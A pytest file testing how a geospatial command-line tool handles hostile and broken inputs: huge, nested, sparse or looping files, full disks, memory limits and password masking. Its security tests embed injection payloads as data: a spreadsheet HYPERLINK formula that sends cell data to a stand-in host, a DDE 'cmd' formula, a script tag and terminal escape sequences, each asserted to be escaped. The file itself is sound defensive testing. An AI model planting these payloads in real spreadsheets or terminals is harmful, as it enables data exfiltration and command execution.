"""Hostile and broken inputs (issue 16): every case built in the test, run through the CLI, exit code and words pinned.

No case may end in a traceback, hang, reach the network or touch anything outside the output.
Full disks are real: a child process under a file size limit (``RLIMIT_FSIZE``), and where
user namespaces allow it, a 256 kB tmpfs; memory limits are a real ``RLIMIT_AS``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pyogrio
import pytest
import shapely

from geo.cli import main
from geo.layers import read_layer
from geo.store import mask_url, open_store

ROOT = Path(__file__).resolve().parents[1]
SQUARE = shapely.box(131.6, 44.5, 131.8, 44.6)  # wholly on Russian land (the countries layer): parks_rus imports it


def _run(capsys, *argv):
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    text = out.out + out.err
    assert "Traceback" not in text
    return code, text


def _feature(geom, fid=..., **props):
    f = {"type": "Feature", "properties": props, "geometry": None if geom is None else shapely.geometry.mapping(geom)}
    if fid is not ...:
        f["id"] = fid
    return f


def _geojson(path: Path, features) -> Path:
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    return path


def _child(args, *, env=None, preamble: str = "", timeout: float = 300) -> subprocess.CompletedProcess:
    """Run ``bigcats ARGS`` in a fresh interpreter, after ``preamble`` (Python run after the imports)."""
    code = "\n".join(["import sys", "from geo.cli import main", textwrap.dedent(preamble), "sys.exit(main(sys.argv[1:]))"])
    full_env = {**os.environ, **(env or {})}
    full_env["PYTHONPATH"] = str(ROOT) + os.pathsep + full_env.get("PYTHONPATH", "")
    proc = subprocess.run([sys.executable, "-c", code, *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, env=full_env, cwd=ROOT)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


# -- tracebacks --------------------------------------------------------------------------------------------


def test_deeply_nested_geojson_is_one_problem(tmp_path, capsys):
    src = tmp_path / "deep.geojson"
    src.write_text("[" * 100_000 + "]" * 100_000)
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 1
    assert "nested more than" in text and "--max-depth" in text


def test_nesting_limit_has_an_override(tmp_path, capsys):
    src = _geojson(tmp_path / "a.geojson", [_feature(SQUARE, "a", name_en="A", extra={"a": {"b": {"c": [[1]]}}})])
    code, text = _run(capsys, "validate", src, "--role", "parks_rus", "--max-depth", "6")
    assert code == 1 and "nested more than 6 levels" in text
    assert _run(capsys, "validate", src, "--role", "parks_rus")[0] == 0


def test_null_and_repeated_ids_are_reported(tmp_path, capsys):
    feats = [_feature(shapely.box(131.6 + 0.3 * k, 44.5, 131.8 + 0.3 * k, 44.6), id=i) for k, i in enumerate([0, 1, None, 1, None])]
    src = _geojson(tmp_path / "ids.geojson", feats)
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 1
    assert "row 3: feature has no id" in text and "row 5: feature has no id" in text
    assert "feature 1: duplicate id: 2 features share it" in text


def test_prj_that_cannot_be_transformed_is_reported(tmp_path, capsys):
    folder = tmp_path / "shp"
    folder.mkdir()
    gdf = gpd.GeoDataFrame({"id": ["a"]}, geometry=[shapely.box(0, 0, 1000, 1000)], crs="EPSG:32652")
    gdf.to_file(folder / "a.shp")
    (folder / "a.prj").write_text('LOCAL_CS["site grid",LOCAL_DATUM["site",32767],UNIT["metre",1],'
                                  'AXIS["X",EAST],AXIS["Y",NORTH]]')
    code, text = _run(capsys, "validate", folder / "a.shp", "--role", "parks_rus")
    assert code == 1
    assert "cannot be transformed to longitude/latitude" in text and "EPSG code" in text


def test_totals_by_the_geometry_column_is_a_usage_error(tmp_path, capsys):
    src = _geojson(tmp_path / "two_parks.geojson", [_feature(SQUARE, "a", name_en="A"),
                                                     _feature(shapely.box(131.9, 44.5, 132, 44.6), "b", name_en="B")])
    code, text = _run(capsys, "areas", "--engine", "memory", "--input", src, "--by", "geometry")
    assert code == 2
    assert "geometry column" in text and "name_en" in text


# -- full disks --------------------------------------------------------------------------------------------

_FSIZE = "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, ({n}, {n}))"


@pytest.mark.parametrize("command", ["build", "gpkg", "shp"])
def test_file_size_limit_during_writes(command, tmp_path, layers_dir):
    out = tmp_path / "out"
    args = {
        "build": ["build", "--layers", layers_dir, "--out", out],
        "gpkg": ["export", "--format", "gpkg", "--out", out / "all.gpkg", "--layers", layers_dir],
        "shp": ["export", "--format", "shp", "--out", out, "--layers", layers_dir],
    }[command]
    proc = _child(args, preamble=_FSIZE.format(n=200_000))
    assert proc.returncode == 2, proc.stderr
    assert "file size limit" in proc.stderr and "nothing was half-written" in proc.stderr
    left = sorted(p.name for p in out.rglob("*")) if out.exists() else []
    # no layer at all rather than some: no Shapefile set, no GeoPackage, no temporary file
    assert not [n for n in left if n.endswith((".shp", ".dbf", ".gpkg", ".tmp", ".html"))], left


def test_geopackage_store_on_a_file_size_limit_says_so(tmp_path, layers_dir):
    store = tmp_path / "team.gpkg"
    assert main(["init", "--layers", str(store), "--from", str(layers_dir)]) == 0
    before = store.read_bytes()
    src = _big_park(tmp_path / "big.geojson")
    proc = _child(["import", src, "--role", "parks_rus", "--layers", store],
                  preamble=_FSIZE.format(n=store.stat().st_size + 4096))
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "no transaction is active" not in proc.stderr
    assert "No room to write" in proc.stderr and "file size limit" in proc.stderr
    assert store.read_bytes() == before or open_store(store).history("parks_rus")["version"].max() == 1


def _unshare_tmpfs(tmp_path: Path) -> list[str] | None:
    """``unshare`` arguments that run a command with a 256 kB tmpfs mounted at tmp_path/full, or None."""
    if shutil.which("unshare") is None:
        return None
    (tmp_path / "full").mkdir()
    probe = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                            f"mount -t tmpfs -o size=256k tmpfs {tmp_path / 'full'}"], capture_output=True)
    return None if probe.returncode else ["unshare", "--user", "--map-root-user", "--mount"]


def _big_park(path: Path) -> Path:
    """A GeoJSON park of one 20,000-vertex outline (about 0.5 MB)."""
    t = np.linspace(0, 2 * np.pi, 20_000)
    ring = np.column_stack([131.6 + 0.1 * np.cos(t), 44.5 + 0.1 * np.sin(t)])
    return _geojson(path, [_feature(shapely.Polygon(ring), "BIG-1", name_en="Big park")])


@pytest.mark.parametrize("command", ["build", "gpkg", "shp", "init", "store"])
def test_full_disk_says_disk_is_full(command, tmp_path, layers_dir):
    prefix = _unshare_tmpfs(tmp_path)
    if prefix is None:
        pytest.skip("no user namespaces here to mount a small tmpfs (the file size limit tests above cover the rest)")
    full = tmp_path / "full"
    size, setup = 256 * 1024, ""
    if command == "store":  # a store that fits, then an import that does not
        store = tmp_path / "team.gpkg"
        assert main(["init", "--layers", str(store), "--from", str(layers_dir)]) == 0
        size, setup = (store.stat().st_size // 4096 + 16) * 4096, f"cp {store} {full}/team.gpkg && "
    args = {
        "build": ["build", "--layers", layers_dir, "--out", full / "out"],
        "gpkg": ["export", "--format", "gpkg", "--out", full / "all.gpkg", "--layers", layers_dir],
        "shp": ["export", "--format", "shp", "--out", full / "out", "--layers", layers_dir],
        "init": ["init", "--layers", full / "team.gpkg", "--from", layers_dir],
        "store": ["import", _big_park(tmp_path / "big.geojson"), "--role", "parks_rus", "--layers", full / "team.gpkg"],
    }[command]
    script = (f"mount -t tmpfs -o size={size} tmpfs {full} && {setup}"
              f"PYTHONPATH={ROOT} exec {sys.executable} -m geo.cli " + " ".join(f"'{a}'" for a in args))
    proc = subprocess.run([*prefix, "sh", "-c", script], capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode == 2, proc.stderr
    assert "disk is full" in proc.stderr, proc.stderr


# -- memory and size ---------------------------------------------------------------------------------------


def _many_polygons_zip(tmp_path: Path, n: int) -> Path:
    """A zipped Shapefile of ``n`` small squares (written by pyogrio, zipped: a few hundred kB)."""
    folder = tmp_path / "many"
    folder.mkdir()
    x = 124 + (np.arange(n) % 1000) * 0.01
    y = 40 + (np.arange(n) // 1000) * 0.01
    gdf = gpd.GeoDataFrame({"id": np.arange(n).astype(str)}, geometry=shapely.box(x, y, x + 0.005, y + 0.005),
                           crs="EPSG:4326")
    pyogrio.write_dataframe(gdf, folder / "many.shp")
    src = tmp_path / "many.zip"
    with zipfile.ZipFile(src, "w", zipfile.ZIP_DEFLATED) as zf:
        for part in folder.iterdir():
            zf.write(part, part.name)
    return src


_AS = """
import re, resource
import geo.normalise, geo.validate, geo.io, pyarrow.compute  # what a read loads, loaded before the limit
used = int(re.search(r"VmSize:\\s+(\\d+) kB", open("/proc/self/status").read()).group(1)) * 1024
resource.setrlimit(resource.RLIMIT_AS, (used + {extra}, resource.RLIM_INFINITY))
"""


def test_memory_guard_refuses_a_file_larger_than_memory(tmp_path):
    src = _many_polygons_zip(tmp_path, 200_000)
    proc = _child(["validate", src, "--role", "parks_rus"], preamble=_AS.format(extra=40 << 20))
    assert proc.returncode == 2, proc.stderr
    assert "needs about" in proc.stderr and "address-space limit" in proc.stderr
    assert "BIGCATS_MEMORY_CHECK=0" in proc.stderr


def test_input_size_limit_and_override(tmp_path, capsys, monkeypatch):
    src = _geojson(tmp_path / "a.geojson", [_feature(SQUARE, "a", name_en="A")])
    code, text = _run(capsys, "validate", src, "--role", "parks_rus", "--max-size", "0.0001")
    assert code == 2 and "above the input size limit" in text and "--max-size" in text
    monkeypatch.setenv("BIGCATS_MAX_INPUT_MB", "0.0001")
    assert _run(capsys, "validate", src, "--role", "parks_rus")[0] == 2
    assert _run(capsys, "validate", src, "--role", "parks_rus", "--max-size", "1")[0] == 0


# -- hangs -------------------------------------------------------------------------------------------------


def test_fifo_is_refused(tmp_path, capsys):
    fifo = tmp_path / "parks.geojson"
    os.mkfifo(fifo)
    code, text = _run(capsys, "validate", fifo, "--role", "parks_rus")
    assert code == 2 and "FIFO" in text and "not a regular file" in text


def test_link_to_dev_zero_is_refused(tmp_path, capsys):
    link = tmp_path / "parks.geojson"
    link.symlink_to("/dev/zero")
    code, text = _run(capsys, "import", link, "--role", "parks_rus", "--dry-run")
    assert code == 2 and "/dev/zero" in text and "character device" in text


def test_huge_sparse_kml_is_refused_at_once(tmp_path, capsys):
    src = tmp_path / "big.kml"
    src.write_text('<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>')
    os.truncate(src, 2 << 30)  # 2 GB, all holes
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 2
    assert "2.00 GB" in text and "sparse" in text and "--max-size" in text


def _gpkg(path: Path, wkb: bytes | None = None, type_name: str = "POLYGON", m: int = 0) -> Path:
    gdf = gpd.GeoDataFrame({"id": ["g-1"], "name_en": ["Park G"]}, geometry=[SQUARE], crs="EPSG:4326")
    gdf.to_file(path, layer="parks", driver="GPKG")
    if wkb is not None:  # a geometry pyogrio cannot write (curves, M), put in place with SQLite
        conn = sqlite3.connect(path)
        for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):  # the GeoPackage's triggers use them
            conn.create_function(name, 1, lambda blob: 0)
        conn.execute("UPDATE parks SET geom = ?", (b"GP\x00\x01" + struct.pack("<i", 4326) + wkb,))
        conn.execute("UPDATE gpkg_geometry_columns SET geometry_type_name = ?, m = ?", (type_name, m))
        conn.execute("PRAGMA writable_schema = ON")
        conn.execute("UPDATE sqlite_master SET sql = replace(sql, '\"geom\" POLYGON', ?) WHERE name = 'parks'",
                     (f'"geom" {type_name}',))
        conn.commit()
        conn.close()
    return path


@pytest.mark.parametrize("how", ["option", "environment"])
def test_geopackage_view_that_never_ends_stops_at_the_time_budget(how, tmp_path):
    src = _gpkg(tmp_path / "loop.gpkg")
    conn = sqlite3.connect(src)
    conn.execute("CREATE VIEW loop AS WITH RECURSIVE r(n, fid, geom, id) AS (SELECT 1, fid, geom, id FROM parks "
                 "UNION ALL SELECT n + 1, fid, geom, id FROM r) SELECT n AS fid, geom, id FROM r")
    conn.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('loop', 'features', 'loop', 4326)")
    conn.execute("INSERT INTO gpkg_geometry_columns VALUES ('loop', 'geom', 'POLYGON', 4326, 0, 0)")
    conn.commit()
    conn.close()
    args = ["validate", src, "--layer", "loop", "--role", "parks_rus"]
    proc = _child(args + ["--timeout", "2"]) if how == "option" else _child(args, env={"BIGCATS_READ_TIMEOUT": "2"})
    assert proc.returncode == 2
    assert "more than 2 s, the time budget of a read" in proc.stderr and "--timeout" in proc.stderr


# -- security ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["s3:bucket.geojson", "http:host.geojson", "zip:x.geojson", "/vsicurl_x.geojson",
                                  "a!b.geojson", " leading space.geojson", "tab\there.geojson", "new\nline.geojson"])
def test_odd_local_names_are_read_as_local_files(name, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)  # a bare relative name, as typed
    name = name.lstrip("/")
    _geojson(tmp_path / name, [_feature(SQUARE, "L-1", name_en="Local park")])
    code, text = _run(capsys, "validate", name, "--role", "parks_rus")
    assert code == 0, text
    assert "can be imported (1 features" in text


def test_odd_names_in_other_formats_and_totals(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    plain = tmp_path / "plain"
    plain.mkdir()
    gpd.GeoDataFrame({"id": ["S-1"], "name_en": ["Shp park"]}, geometry=[SQUARE], crs="EPSG:4326").to_file(plain / "a.shp")
    folder = tmp_path / "s3:shp!dir"
    folder.mkdir()
    for part in plain.iterdir():  # pyogrio would not write these names either
        part.rename(folder / f"http:a{part.suffix}")
    assert _run(capsys, "validate", "s3:shp!dir/http:a.shp", "--role", "parks_rus")[0] == 0
    code, text = _run(capsys, "areas", "--input", "s3:shp!dir/http:a.shp", "--by", "name_en")
    assert code == 0 and "Shp park" in text


def test_store_folder_with_an_odd_name(tmp_path, capsys, monkeypatch, layers_dir):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(layers_dir, tmp_path / "zip:lay!ers", ignore=shutil.ignore_patterns(".versions"))
    code, text = _run(capsys, "areas", "--layers", "zip:lay!ers")
    assert code == 0 and "proposed_park" in text


@pytest.mark.parametrize(
    "spec, secret",
    [
        ("postgresql://gis:hunter2@127.0.0.1:1/bigcats", "hunter2"),
        ("postgresql://gis@127.0.0.1:1/bigcats?password=hunter2&sslmode=disable", "hunter2"),
        ("postgresql://gis:p@ss@word@127.0.0.1:1/bigcats", "ss@word"),
        ("postgresql://gis:se%zzcret@127.0.0.1:1/bigcats", "zzcret"),
        ("host=127.0.0.1 port=1 dbname=bigcats user=gis password=hunter2", "hunter2"),
        ("host=127.0.0.1 port=1 dbname=bigcats password='hunter 2'", "hunter"),
    ],
)
def test_postgis_password_is_never_echoed(spec, secret, capsys):
    for argv in (["history", "parks_rus", "--layers", spec], ["build", "--layers", spec, "--out", "/nonexistent/out"]):
        code, text = _run(capsys, *argv)
        assert code == 2
        assert secret not in text, text
        assert "***" in text or "password" not in text
    assert secret not in mask_url(spec)


def _park_layers(tmp_path: Path, layers_dir: Path, **props) -> Path:
    """A copy of the bundled layers whose first Chinese park carries ``props``."""
    dest = tmp_path / "layers"
    shutil.copytree(layers_dir, dest, ignore=shutil.ignore_patterns(".versions"))
    parks = read_layer(dest, "parks_chn")
    for key, value in props.items():
        parks.loc[parks.index[0], key] = value
    from geo.io import write_geojson

    write_geojson(parks, dest / "parks_chn.geojson")
    return dest


HOSTILE = {"id": "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "name_en": "@SUM(1+1)<script>alert(1)</script>|x"}


def test_formula_injection_is_escaped_in_csv(tmp_path, capsys, layers_dir):
    layers = _park_layers(tmp_path, layers_dir, **HOSTILE)
    assert main(["areas", "--layers", str(layers), "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = [v for row in rows for v in row.values() if v]
    assert not [c for c in cells if c[0] in "=+@"], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    for row in rows:  # numeric columns stay numeric (a negative difference keeps its minus)
        float(row["area_ha"])
        if row["difference_ha"]:
            float(row["difference_ha"])
    out = tmp_path / "out"
    assert main(["build", "--layers", str(layers), "--out", str(out)]) == 0
    rows = list(csv.DictReader((out / "areas.csv").open(encoding="utf-8")))
    assert any(r["id"].startswith("'=HYPERLINK") for r in rows) and any(r["name_en"].startswith("'@SUM") for r in rows)
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@"]
    assert all(float(r["area_ha"]) > 0 for r in rows)
    md = (out / "areas.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in md


def test_formula_injection_in_totals_csv(tmp_path, capsys):
    src = _geojson(tmp_path / "p.geojson", [_feature(SQUARE, "a", name_en="=cmd|' /C calc'!A0"),
                                            _feature(shapely.box(131.9, 44.5, 132, 44.6), "b", name_en="-2+3")])
    code, text = _run(capsys, "areas", "--input", src, "--by", "name_en", "--csv")
    assert code == 0
    keys = [row["name_en"] for row in csv.DictReader(io.StringIO(text))]
    assert "'=cmd|' /C calc'!A0" in keys and "'-2+3" in keys


def test_terminal_escapes_are_printed_escaped(tmp_path, capsys):
    evil = "\x1b]0;owned\x07\x1b[2J\x9b31m"
    src = _geojson(tmp_path / "a.geojson", [_feature(SQUARE, evil, name_en="A"), _feature(SQUARE, evil, name_en="B")])
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 1  # the duplicate id, named
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m: duplicate id" in text


# -- valid files refused -----------------------------------------------------------------------------------


def test_shapefile_zipped_inside_its_folder(tmp_path, capsys):
    folder = tmp_path / "parks"
    folder.mkdir()
    gpd.GeoDataFrame({"id": ["Z-1"], "name_en": ["Zip park"]}, geometry=[SQUARE], crs="EPSG:4326").to_crs(
        "EPSG:32652").to_file(folder / "parks.shp")
    src = tmp_path / "parks.zip"
    with zipfile.ZipFile(src, "w") as zf:
        for part in folder.iterdir():
            zf.write(part, f"parks/{part.name}")
        zf.writestr("__MACOSX/parks/._parks.shp", b"\x00\x05\x16\x07")
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 0, text
    assert "can be imported (1 features" in text


KML = """<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>
<Placemark><name>Park A</name><Polygon><outerBoundaryIs><LinearRing><coordinates>131.6,44.5 131.8,44.5 131.8,44.6 131.6,44.6 131.6,44.5</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>
<Placemark><name>Park B</name><Polygon><outerBoundaryIs><LinearRing><coordinates>131.9,44.5 132.1,44.5 132.1,44.6 131.9,44.6 131.9,44.5</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>
</Document></kml>"""


def _topojson(path: Path) -> Path:
    arcs = [[[131.6, 44.5], [131.8, 44.5], [131.8, 44.6], [131.6, 44.6], [131.6, 44.5]],
            [[131.9, 44.5], [132.1, 44.5], [132.1, 44.6], [131.9, 44.6], [131.9, 44.5]]]
    geoms = [{"type": "Polygon", "arcs": [[k]], "properties": {"name_en": f"Park {c}"}} for k, c in enumerate("AB")]
    path.write_text(json.dumps({"type": "Topology", "objects": {"parks": {"type": "GeometryCollection", "geometries": geoms}},
                                "arcs": arcs}))
    return path


@pytest.mark.parametrize("fmt", ["geojson", "kml", "topojson"])
def test_features_without_ids_get_ids_in_every_format(fmt, tmp_path, layers_copy, capsys):
    if fmt == "kml":
        src = tmp_path / "parks.kml"
        src.write_text(KML)
    elif fmt == "topojson":
        src = _topojson(tmp_path / "parks.topojson")
    else:
        src = _geojson(tmp_path / "parks.geojson", [_feature(SQUARE, name_en="Park A"),
                                                    _feature(shapely.box(131.9, 44.5, 132.1, 44.6), name_en="Park B")])
    code, text = _run(capsys, "import", src, "--role", "parks_rus", "--layers", layers_copy)
    assert code == 0, text
    assert "no id column: ids made from the row order" in text
    assert read_layer(layers_copy, "parks_rus")["id"].tolist() == ["parks-1", "parks-2"]


def test_one_unclosed_ring_in_kml_is_one_problem(tmp_path, capsys):
    src = tmp_path / "parks.kml"
    src.write_text(KML.replace("131.9,44.6 131.9,44.5</coordinates>", "131.9,44.6</coordinates>"))
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 1
    errors = [line for line in text.splitlines() if "ERROR" in line]
    assert len(errors) == 1 and "Park B" in errors[0] and "ring is not closed" in errors[0], text
    assert "1 problem(s)" in text


def test_kml_without_layers(tmp_path, capsys):
    src = tmp_path / "empty.kml"
    src.write_text('<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document></Document></kml>')
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 2
    assert "holds no layer" in text and "--encoding" not in text


def test_rounding_past_180_is_accepted(tmp_path, capsys):
    folder = tmp_path / "world"
    folder.mkdir()
    gdf = gpd.GeoDataFrame({"id": ["W-1"], "name_en": ["Chukotka edge"]},
                           geometry=[shapely.box(170, 60, 180.0000019, 70)], crs="EPSG:4326")
    gdf.to_file(folder / "world.shp")
    (folder / "world.prj").unlink()
    code, text = _run(capsys, "validate", folder / "world.shp", "--crs", "EPSG:4326")
    assert code == 0, text
    assert "clamped to ±180/±90" in text
    beyond = gdf.set_geometry(gpd.GeoSeries([shapely.box(170, 60, 180.01, 70)], crs="EPSG:4326"))
    beyond.to_file(folder / "world.shp")
    (folder / "world.prj").unlink()
    code, text = _run(capsys, "validate", folder / "world.shp", "--crs", "EPSG:4326")
    assert code == 1 and "outside ±180/±90" in text


@pytest.mark.parametrize("x, y", [("lon", "lat"), ("Longitude", "Latitude"), ("x", "y"), ("E", "N")])
def test_csv_of_points(x, y, tmp_path, capsys):
    src = tmp_path / "camera_traps.csv"
    src.write_text(f"id,name_en,{x},{y}\nCT-1,Trap 1,131.1,43.05\nCT-2,Trap 2,131.3,43.2\n", encoding="utf-8")
    extra = ["--x", x, "--y", y] if x == "E" else []
    code, text = _run(capsys, "validate", src, "--role", "places", "--crs", "EPSG:4326", *extra)
    assert code == 0, text
    assert "can be imported (2 features" in text
    if x == "E":
        code, text = _run(capsys, "validate", src, "--role", "places", "--crs", "EPSG:4326")
        assert code == 1 and "--x and --y" in text


def test_mistyped_option_suggests_the_right_one(capsys):
    with pytest.raises(SystemExit) as exc:
        main(["import", "a.geojson", "--role", "parks_rus", "--dryrun"])
    assert exc.value.code == 2
    assert "did you mean --dry-run?" in capsys.readouterr().err


def test_curved_geopackage_geometries_are_linearised(tmp_path, capsys):
    ring = struct.pack("<BII", 1, 8, 3) + struct.pack("<6d", 131.6, 44.5, 131.8, 44.5, 131.6, 44.5)  # a full circle
    src = _gpkg(tmp_path / "curved.gpkg", struct.pack("<BII", 1, 10, 1) + ring, "CURVEPOLYGON")
    code, text = _run(capsys, "validate", src, "--role", "parks_rus")
    assert code == 0, text
    assert "curved geometries linearised: arcs approximated by straight segments" in text
    assert text.count("linearised") == 1


def test_measured_geometries_warning_is_a_report_line(tmp_path, capfd):
    pts = [(131.6, 44.5, 1), (131.8, 44.5, 2), (131.8, 44.6, 3), (131.6, 44.6, 4), (131.6, 44.5, 1)]
    wkb = struct.pack("<BIII", 1, 2003, 1, 5) + b"".join(struct.pack("<3d", *p) for p in pts)
    src = _gpkg(tmp_path / "m.gpkg", wkb, "POLYGON", 1)
    code = main(["validate", str(src), "--role", "parks_rus"])
    out = capfd.readouterr()
    assert code == 0
    assert "UserWarning" not in out.err and ".py:" not in out.err, out.err
    assert "warning: feature *: reading: Measured (M) geometry types are not supported" in out.out


# -- the store ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt, out", [("gpkg", "parks_chn.geojson"), ("gpkg", "x.gpkg"), ("geojson", "."), ("shp", "sub")])
def test_export_never_overwrites_the_store(fmt, out, layers_copy, capsys):
    before = {p: p.read_bytes() for p in layers_copy.rglob("*") if p.is_file()}
    code, text = _run(capsys, "export", "--format", fmt, "--out", layers_copy / out, "--layers", layers_copy)
    assert code == 2 and "inside the layer store" in text
    assert {p: p.read_bytes() for p in layers_copy.rglob("*") if p.is_file()} == before


WRITER = """
import sys
from geo.store import open_store
store = open_store(sys.argv[1])
gdf = store.read_layer("parks_rus").copy()  # the layer with one park renamed, as a new version
gdf.loc[gdf.index[0], "name_en"] = "Renamed by a killed writer"
version = store.write_layer("parks_rus", gdf, provenance={"source": "k.geojson", "checksum": "sha256:k"})
print("done", version)
"""


def _agree(store: Path) -> int:
    """History, the folder's layer and its provenance agree; return the current version."""
    opened = open_store(store)
    history = opened.history("parks_rus")
    current = int(history["version"].max())
    stored = opened.read_layer("parks_rus")
    folder = read_layer(store, "parks_rus")
    assert stored["id"].tolist() == folder["id"].tolist()
    assert stored["name_en"].tolist() == folder["name_en"].tolist()
    assert all(a.equals(b) for a, b in zip(stored.geometry, folder.geometry, strict=True))
    if current == 3:  # the store's own write: its provenance beside the layer
        assert json.loads((store / "parks_rus.provenance.json").read_text())["version"] == current
    return current


def test_folder_store_killed_at_every_write_step(tmp_path, layers_dir, capsys):
    base = tmp_path / "base"
    assert main(["init", "--layers", str(base), "--from", str(layers_dir)]) == 0
    (base / "parks_rus.geojson").write_text((base / "parks_rus.geojson").read_text() + "\n")  # a hand edit: pending
    steps, step = [], 0
    while True:
        step += 1
        store = tmp_path / f"s{step}"
        shutil.copytree(base, store)
        proc = subprocess.run([sys.executable, "-c", WRITER, str(store)], capture_output=True, text=True, timeout=300,
                              env={**os.environ, "BIGCATS_FAULT_STEP": str(step), "PYTHONPATH": str(ROOT)})
        killed = proc.returncode == -9
        assert killed or proc.returncode == 0, proc.stderr
        current = _agree(store)
        assert current in (1, 2, 3)  # before the write, the hand edit kept as version 2, or the new version 3
        if not killed:
            assert current == 3 and "done 3" in proc.stdout
            break
        steps.append((step, current))
        code, text = _run(capsys, "build", "--layers", store, "--out", tmp_path / f"out{step}")
        assert code == 0, text
        assert step < 20
    assert len(steps) >= 5, steps  # pending copy, version file, index, layer, provenance
    assert steps[-1][1] == 3  # killed after the commit: the next open finished the write


def test_reads_share_one_reader_thread_which_ends_when_idle_and_a_read_past_its_budget_keeps_its_own(monkeypatch):
    """GDAL and PROJ set up a context per thread: reads run on one kept thread, which a stuck read does not block."""
    import threading
    import time

    from geo import limits

    monkeypatch.setattr(limits, "_READER_IDLE_S", 0.3)

    def ours() -> set:
        return {t for t in threading.enumerate() if t.name == "bigcats-read"}

    def me() -> threading.Thread:
        return threading.current_thread()

    first = limits.within_time(me, 5, "a")
    assert limits.within_time(me, 5, "b") is first  # the same thread, read after read
    with pytest.raises(ValueError, match="bad file"):  # an error is the caller's, and the thread stays
        limits.within_time(lambda: (_ for _ in ()).throw(ValueError("bad file")), 5, "c")
    assert limits.within_time(me, 5, "d") is first
    release = threading.Event()
    with pytest.raises(limits.ReadTimeout, match="more than 0.2 s"):
        limits.within_time(lambda: release.wait(10), 0.2, "stuck")
    after = limits.within_time(me, 5, "e")  # a read after a stuck one is not queued behind it: a new thread
    assert after is not first and ours() == {first, after}
    assert limits.within_time(me, 5, "g") is after  # kept in its turn
    release.set()
    deadline = time.monotonic() + 5
    while ours() and time.monotonic() < deadline:  # idle: both end
        time.sleep(0.05)
    assert not ours()
    assert limits.within_time(me, 5, "f").name == "bigcats-read"  # and a new one serves the next read
